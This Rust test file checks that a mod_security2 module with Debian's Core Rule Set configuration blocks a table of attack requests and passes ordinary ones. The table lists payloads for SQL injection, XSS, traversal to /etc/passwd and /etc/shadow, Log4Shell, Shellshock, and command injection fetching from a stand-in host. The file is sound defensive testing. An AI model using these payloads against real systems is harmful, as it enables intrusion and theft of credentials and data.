//! Debian's own configuration: `mods-available/security2.{load,conf}`, `/etc/modsecurity` with its recommended settings and
//! the packaged Core Rule Set, as they are. Changed are the path of the library and the directories that a test must not
//! write to; the engine is switched on, as an administrator does in the end.
//!
//! What the packaged mod_security2 says of each request is asked in the same run.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use crate::harness::{Mpm, Setup, httpd, missing, module};

/// Method, target behind a number of its own, header lines, body.
type Case = (&'static str, &'static str, &'static str, &'static str);

const FORM: &str = "Content-Type: application/x-www-form-urlencoded\r\n";
const JSON: &str = "Content-Type: application/json\r\n";
const XML: &str = "Content-Type: text/xml\r\n";
const PARTS: &str = "Content-Type: multipart/form-data; boundary=b\r\n";

/// What the Core Rule Set refuses as it is packaged.
#[rustfmt::skip] // a table: one row a line
const ATTACKS: [Case; 46] = [
    ("GET", "?id=1%27%20or%20%271%27=%271", "", ""),
    ("GET", "?id=1%20union%20select%20password%20from%20users--", "", ""),
    ("GET", "?id=1;drop%20table%20users", "", ""),
    ("GET", "?id=sleep(5)%23", "", ""),
    ("GET", "?id=1%20and%20extractvalue(1,concat(0x7e,version()))", "", ""),
    ("GET", "?q=%3Cscript%3Ealert(1)%3C/script%3E", "", ""),
    ("GET", "?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "", ""),
    ("GET", "?q=%3Csvg/onload=alert(1)%3E", "", ""),
    ("GET", "?q=javascript:alert(document.cookie)", "", ""),
    ("GET", "?q=%3Ciframe%20src=javascript:alert(1)%3E", "", ""),
    ("GET", "?file=../../../../etc/passwd", "", ""),
    ("GET", "?file=..%2f..%2f..%2fetc%2fshadow", "", ""),
    ("GET", "?file=/proc/self/environ", "", ""),
    ("GET", "/.git/config", "", ""),
    ("GET", "/.htaccess", "", ""),
    ("GET", "/wp-config.php", "", ""),
    ("GET", "?url=http://192.0.2.1/shell.txt?", "", ""),
    ("GET", "?page=http://192.0.2.1/x.php", "", ""),
    ("GET", "?cmd=;cat%20/etc/passwd", "", ""),
    ("GET", "?cmd=%7Cwget%20http://192.0.2.1/x", "", ""),
    ("GET", "?cmd=$(curl%20http://192.0.2.1/)", "", ""),
    ("GET", "?cmd=%60id%60;uname%20-a", "", ""),
    ("GET", "?cmd=powershell.exe%20-enc%20abc", "", ""),
    ("GET", "?x=()%20%7B%20:;%7D;%20echo%20vulnerable", "", ""),
    ("GET", "?x=%3C?php%20phpinfo();?%3E", "", ""),
    ("GET", "?x=base64_decode(eval($_GET[1]))", "", ""),
    ("GET", "?x=O:8:%22stdClass%22:0:%7B%7D", "", ""),
    ("GET", "?x=php://input", "", ""),
    ("GET", "?x=%24%7Bjndi:ldap://192.0.2.1/a%7D", "", ""),
    ("GET", "?x=java.lang.Runtime.getRuntime().exec", "", ""),
    ("GET", "?x=require('child_process').exec('id')", "", ""),
    ("GET", "?x=%0d%0aSet-Cookie:%20a=b", "", ""),
    ("GET", "?x=document.cookie=%22sessionid=1%22;%20Set-Cookie", "", ""),
    ("GET", "", "User-Agent: sqlmap/1.0\r\n", ""),
    ("GET", "", "User-Agent: nikto\r\n", ""),
    ("GET", "?x=1", "Referer: <script>alert(1)</script>\r\n", ""),
    ("GET", "?x=1", "Cookie: a=1' or '1'='1\r\n", ""),
    ("TRACK", "", "", ""),
    ("POST", "", FORM, "a=1%27%20union%20all%20select%20null,null--%20"),
    ("POST", "", FORM, "a=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("POST", "", FORM, "f=....//....//etc/passwd"),
    ("POST", "", JSON, "{\"a\":{\"b\":[\"<script>alert(1)</script>\"]}}"),
    ("POST", "", JSON, "{\"a\":\"1' or '1'='1\"}"),
    ("POST", "", XML, "<a><b>/etc/passwd</b><c>1' or '1'='1</c></a>"),
    ("POST", "", PARTS, "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n"),
    ("POST", "", PARTS, "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\n<?php\r\n--b--\r\n"),
];

/// What it has nothing against.
#[rustfmt::skip] // as above
const ORDINARY: [Case; 10] = [
    ("GET", "", "", ""),
    ("GET", "?page=2&sort=name", "", ""),
    ("GET", "?q=union+of+concerned+scientists", "", ""),
    ("GET", "?q=caf%C3%A9+au+lait", "", ""),
    ("GET", "?date=2026-11-23&from=08:00", "", ""),
    ("GET", "", "Cookie: session=0123456789abcdef\r\n", ""),
    ("POST", "", FORM, "name=Ada+Lovelace&mail=ada%40example.test&text=Dear+all%2C+see+you+on+Monday."),
    ("POST", "", JSON, "{\"title\":\"A day\",\"tags\":[\"sun\",\"sea\"],\"n\":3}"),
    ("POST", "", XML, "<note><to>Ada</to><body>See you</body></note>"),
    ("POST", "", PARTS, "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--b--\r\n"),
];

fn cases() -> impl Iterator<Item = &'static Case> {
    ATTACKS.iter().chain(&ORDINARY)
}

/// Debian's files, in a directory where a test may write.
struct Tree {
    load: String,
    conf: String,
    library: PathBuf,
}

impl Tree {
    /// Copies them below a directory; None, said loudly, where the packages are not installed.
    fn copy(below: &Path) -> Option<Tree> {
        let available = Path::new("/etc/apache2/mods-available");
        let recommended = Path::new("/etc/modsecurity/modsecurity.conf-recommended");
        let rules = Path::new("/usr/share/modsecurity-crs/owasp-crs.load");
        let load = fs::read_to_string(available.join("security2.load")).ok();
        let (Some(load), true, true) = (load, recommended.is_file(), rules.is_file()) else {
            missing(
                "configuration of Debian's packages libapache2-mod-security2 and modsecurity-crs",
            );
            return None;
        };
        // Directories that the configuration names, to those of the test.
        let moved = |text: String| {
            [
                ("/etc/modsecurity", "etc"),
                ("/usr/share/modsecurity-crs", "crs"),
                ("/var/cache/modsecurity", "data"),
                ("/var/log/apache2", "log"),
            ]
            .into_iter()
            .fold(text, |text, (from, to)| {
                text.replace(from, &below.join(to).display().to_string())
            })
        };
        for directory in ["etc", "crs", "data", "log"] {
            fs::create_dir_all(below.join(directory)).unwrap();
        }
        let text = |path: &Path| moved(fs::read_to_string(path).unwrap());
        fs::write(below.join("etc/modsecurity.conf"), text(recommended)).unwrap();
        fs::copy(
            "/etc/modsecurity/unicode.mapping",
            below.join("etc/unicode.mapping"),
        )
        .unwrap();
        std::os::unix::fs::symlink("/etc/modsecurity/crs", below.join("etc/crs")).unwrap();
        fs::write(below.join("crs/owasp-crs.load"), text(rules)).unwrap();
        std::os::unix::fs::symlink("/usr/share/modsecurity-crs/rules", below.join("crs/rules"))
            .unwrap();
        let library = load
            .split_whitespace()
            .find(|word| word.ends_with(".so"))?
            .into();
        Some(Tree {
            load,
            conf: text(&available.join("security2.conf")),
            library,
        })
    }
}

/// An httpd with Debian's configuration and this library. `None` where something is missing.
fn setup(library: Option<PathBuf>, mpm: Mpm) -> Option<Setup> {
    let setup = Setup::with(httpd()?, module()?).mpm(mpm);
    let tree = Tree::copy(&setup.configuration_file().with_file_name("debian"))?;
    let library = library.unwrap_or_else(|| tree.library.clone());
    let load = tree.load.replace(
        &tree.library.display().to_string(),
        &library.display().to_string(),
    );
    let mut setup = setup.load_as(&[]).load_line(&load);
    for at in 0..cases().count() {
        setup = setup.file(&format!("r{at}/index.html"), "<p>Good morning.");
    }
    let engine = "SecRuleEngine On\nTraceEnable Off\n";
    Some(setup.modules(&["dir"]).conf(&tree.conf).conf(engine))
}

/// What a library answers to each case, and the ids of the rules that it logs.
fn answers(setup: Setup) -> Vec<(u16, BTreeSet<u32>)> {
    let server = setup.start();
    let statuses: Vec<u16> = cases()
        .enumerate()
        .map(|(at, (method, target, headers, body))| {
            let slash = if target.starts_with('/') { "" } else { "/" };
            let agent = match headers.contains("User-Agent") {
                true => "Accept: */*\r\n",
                false => "Accept: */*\r\nUser-Agent: Mozilla/5.0\r\n",
            };
            let target = format!("/r{at}{slash}{target}");
            let headers = format!("{agent}{headers}");
            server
                .request(method, &target, &headers, body.as_bytes())
                .status
        })
        .collect();
    let log = server.stop_idle();
    let ids = |at: usize| {
        let uri = format!("[uri \"/r{at}/");
        let lines = log
            .lines()
            .filter(move |line| line.contains("ModSecurity: ") && line.contains(&uri));
        lines
            .filter_map(|line| line.split("[id \"").nth(1)?.split('"').next()?.parse().ok())
            .collect()
    };
    statuses
        .into_iter()
        .enumerate()
        .map(|(at, status)| (status, ids(at)))
        .collect()
}

#[test]
fn debians_configuration_is_good_and_answers_as_with_debians_module() {
    let Some(theirs) = setup(None, Mpm::Event) else {
        return;
    };
    let theirs = answers(theirs);
    for mpm in [Mpm::Event, Mpm::Prefork] {
        let check = setup(module(), mpm)
            .expect("it was there a moment ago")
            .check();
        assert!(check.0, "{}", check.1);
        let ours = answers(setup(module(), mpm).expect("it was there a moment ago"));
        let mut different = Vec::new();
        for ((case, ours), theirs) in cases().zip(&ours).zip(&theirs) {
            let attack = ATTACKS.contains(case);
            let expected = if attack { 403 } else { 200 };
            if ours != theirs || ours.0 != expected || ours.1.is_empty() == attack {
                different.push(format!("{case:?}\n  ours   {ours:?}\n  theirs {theirs:?}"));
            }
        }
        assert!(different.is_empty(), "{mpm:?}:\n{}", different.join("\n"));
    }
}
